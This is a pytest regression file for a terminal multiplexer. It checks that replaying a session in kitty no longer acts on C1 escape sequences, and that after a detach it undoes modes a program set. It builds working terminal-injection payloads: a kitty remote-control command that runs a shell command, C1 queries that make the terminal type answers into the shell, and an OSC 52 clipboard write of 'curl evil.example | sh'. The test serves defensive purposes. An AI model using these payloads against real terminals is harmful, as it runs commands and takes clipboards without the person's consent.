"""Issue 34 in kitty (headless under Xvfb, ``allow_remote_control=yes``,
as in ``test_terminal_safety_kitty.py``, whose fixtures and helpers these
tests use): what a session printed while nobody watched is replayed, by
``peek`` and ``attach``, as the screen it drew and nothing else. kitty acts
on C1 controls sent as UTF-8 characters (U+009B CSI, U+009D OSC, U+0090
DCS, U+009C ST), and on its remote-control string in either encoding:
before, a replay made kitty run a command, type its answers into the
person's shell and take the X clipboard. Each test also shows, in the same
kitty, that the same bytes printed raw do all of that.

(kitty 0.26 acts on no raw 8-bit C1 byte tried, ``0x9B 6n`` and ``0x9B
c``: it reads them as no character. The unit tests hold the filter to a
terminal model that acts on both encodings.)
"""

from __future__ import annotations

import base64
import json
import re
import sys
from collections.abc import Callable
from pathlib import Path

import trio

from tests.cli.attach import test_terminal_safety_kitty as safety
from tests.cli.attach.test_terminal_safety_kitty import (
    ASK_MODES,
    CLIPBOARD_WRITES,
    XClipboard,
    assert_modes_given_back,
    needs_xclip,
    wait_text,
)
from tests.cli.attach.test_terminal_safety_tmux import READER
from tests.cli.conftest import SCREEN_TIMEOUT, ms, wait_buffered
from tests.cli.test_layout_kitty import KittyRun
from tests.conftest import POLL_INTERVAL, MsDirs, wait_until_sync

pytestmark = safety.pytestmark
display = safety.display  # fixtures
kittys = safety.kittys
x_clipboard = safety.x_clipboard

EVIL = "curl evil.example | sh"
# The C1 controls as UTF-8 characters, as kitty reads them.
C1_CSI, C1_DCS, C1_OSC, C1_ST = "\u009b", "\u0090", "\u009d", "\u009c"
# The questions of the issue, each introduced by a C1 control: the cursor
# position, DA1, DA2, the background colour, XTGETTCAP of "TN".
C1_QUERIES = f"{C1_CSI}6n{C1_CSI}c{C1_CSI}>c{C1_OSC}11;?{C1_ST}{C1_DCS}+q544e{C1_ST}"
# What kitty typed for them, in the control: one pattern each.
C1_ANSWERS = [
    rb"\x1b\[\d+;\d+R",
    rb"\x1b\[\?62;c",
    rb"\x1b\[>1;\d+;\d+c",
    rb"\x1b\]11;rgb:[0-9a-f/]+\x1b\\",
    rb"\x1bP1\+r544e=[0-9a-f]+\x1b\\",
]


def _launch(intro: str, st: str, path: Path) -> str:
    """kitty 0.26's remote-control command over the tty: run ``id > path``."""
    command = {
        "cmd": "launch",
        "version": [0, 26, 0],
        "no_response": True,
        "payload": {"args": ["sh", "-c", f"id > {path}"], "type": "background"},
    }
    return f"{intro}@kitty-cmd{json.dumps(command, separators=(',', ':'))}{st}"


# The session's program after its hostile output: every read of its
# terminal (raw) appended to the file named by its argument, in hex, a line
# a read.
SESSION_READER = r"""
import os, sys, tty
tty.setraw(0)
with open(sys.argv[1], "a") as log:
    while data := os.read(0, 4096):
        log.write(data.hex() + "\n")
        log.flush()
"""


def _program_read(log: Path) -> bytes:
    """Everything SESSION_READER has read so far."""
    return bytes.fromhex("".join(log.read_text().split())) if log.exists() else b""


async def _cleared(k: KittyRun, gone: str) -> None:
    """Clear kitty's screen, and wait until ``gone`` is no longer on it (so
    that what is waited for next is new)."""
    k.at("send-text", "clear\r")
    with trio.move_on_after(SCREEN_TIMEOUT):
        while gone in await trio.to_thread.run_sync(lambda: k.at("get-text")):
            await trio.sleep(POLL_INTERVAL * 4)
        return
    raise AssertionError(f"kitty: {gone!r} still shown {SCREEN_TIMEOUT} s after clear")


async def _typed_after(k: KittyRun, command: str, reader: Path) -> bytes:
    """Run ``command``, then READER, on one line in kitty's shell: what
    READER found typed (the terminal's answers to what ``command`` showed)."""
    typed = reader.with_suffix(".typed")
    typed.unlink(missing_ok=True)
    await _cleared(k, "read-done")
    k.at("send-text", f"{command}; {sys.executable} {reader} {typed}\r")
    await wait_text(k, r"read-done$")
    return typed.read_bytes()


@needs_xclip
async def test_a_replay_runs_nothing_answers_nothing_and_leaves_the_clipboard(
    ms_dirs: MsDirs, kittys: Callable[[str], KittyRun], x_clipboard: XClipboard
) -> None:
    """A session printed kitty's launch command (7-bit and C1), the C1
    queries and a C1 OSC 52 clipboard write. ``peek`` and ``attach`` show
    what it drew after them, and: nothing runs, neither the person's shell
    nor the program reads an answer, the clipboard stays the person's."""
    root = ms_dirs.root
    launched = [root / "launched-7bit", root / "launched-c1"]
    hostile = "".join(
        [
            _launch("\x1bP", "\x1b\\", launched[0]),
            _launch(C1_DCS, C1_ST, launched[1]),
            C1_QUERIES,
            f"{C1_OSC}52;c;{base64.b64encode(EVIL.encode()).decode()}{C1_ST}",
        ]
    ).encode()
    printed = root / "hostile.bin"
    printed.write_bytes(hostile)
    reader, session_reader, log = root / "reader.py", root / "session_reader.py", root / "log"
    reader.write_text(READER)
    session_reader.write_text(SESSION_READER)
    script = 'cat "$0"; echo kept-after; exec "$1" "$2" "$3"'
    await ms(
        ms_dirs, "new", "-d", "-n", "h", "--",
        "sh", "-c", script, str(printed), sys.executable, str(session_reader), str(log),
    )  # fmt: skip
    await wait_buffered(ms_dirs, "h", hostile + b"kept-after")
    k = kittys("kitty")
    k.options = CLIPBOARD_WRITES
    await trio.to_thread.run_sync(k.start, "sh")

    # Control: the same bytes printed raw in this kitty run both commands,
    # type every answer into the shell and take the clipboard.
    await trio.to_thread.run_sync(x_clipboard.own, "set by the test, before the control")
    typed = await _typed_after(k, f"cat {printed}", reader)
    for answer in C1_ANSWERS:
        assert re.search(answer, typed), (answer, typed)
    for path in launched:
        assert await trio.to_thread.run_sync(wait_until_sync, path.exists, SCREEN_TIMEOUT), (
            f"kitty did not run the launch command of {path.name}"
        )
        path.unlink()
    assert x_clipboard.read() == EVIL

    mine = "the person's own clipboard"
    await trio.to_thread.run_sync(x_clipboard.own, mine)
    # peek first: a detach hands the daemon the screen it showed, and that,
    # not the bytes the program printed, is what is kept after an attach.
    assert await _typed_after(k, "multiserver peek h", reader) == b""
    await wait_text(k, "^kept-after")
    # READER waited a second of quiet: the launches of the control had
    # written their files in milliseconds.
    assert not any(path.exists() for path in launched)
    assert x_clipboard.read() == mine

    await wait_buffered(ms_dirs, "h", hostile)  # still there to replay
    await _cleared(k, "kept-after")
    k.at("send-text", "multiserver attach h\r")
    await wait_text(k, "^kept-after")
    # Any answer kitty gave the replay was sent before this key.
    k.at("send-text", "z")
    await trio.to_thread.run_sync(
        wait_until_sync, lambda: b"z" in _program_read(log), SCREEN_TIMEOUT
    )
    assert _program_read(log) == b"z"  # the key, and nothing before it
    k.at("send-text", "\x1c")  # Ctrl-\, the detach key
    await wait_text(k, r"^\[detached from h\]")
    assert not any(path.exists() for path in launched)
    assert x_clipboard.read() == mine


# Once attached, the program sets the alternate screen and pushes kitty
# keyboard flags, with C1 CSIs; then says so.
C1_MODES = f"{C1_CSI}?1049h{C1_CSI}>1u"


async def test_modes_a_program_set_with_c1_controls_are_undone_at_detach(
    ms_dirs: MsDirs, kittys: Callable[[str], KittyRun]
) -> None:
    """Before: the reset followed only ``ESC [``; after a live C1 ``?1049h``
    and ``>1u``, kitty was left on the alternate screen, with keyboard flag
    1 on, after the detach."""
    root = ms_dirs.root
    modes = root / "c1-modes.bin"
    modes.write_bytes(C1_MODES.encode())
    asker = root / "ask_modes.py"
    asker.write_text(ASK_MODES)
    script = 'echo ready; read x; cat "$0"; echo in-modes; exec sleep 600'
    await ms(ms_dirs, "new", "-d", "-n", "m", "--", "sh", "-c", script, str(modes))
    await wait_buffered(ms_dirs, "m", b"ready")
    k = kittys("kitty")
    await trio.to_thread.run_sync(k.start, "sh")
    k.at("send-text", "multiserver attach m\r")
    await wait_text(k, "^ready")
    k.at("send-text", "\r")  # the program prints its modes, live
    await wait_text(k, "^in-modes")
    k.at("send-text", "\x1c")  # Ctrl-\, the detach key
    await wait_text(k, r"^\[detached from m\]")
    await assert_modes_given_back(k, asker)
    # Control: the same bytes set both modes in this kitty.
    k.at("send-text", f"cat {modes}; {sys.executable} {asker}\r")
    await wait_text(k, r"^1049=1 .*kitty=1$")
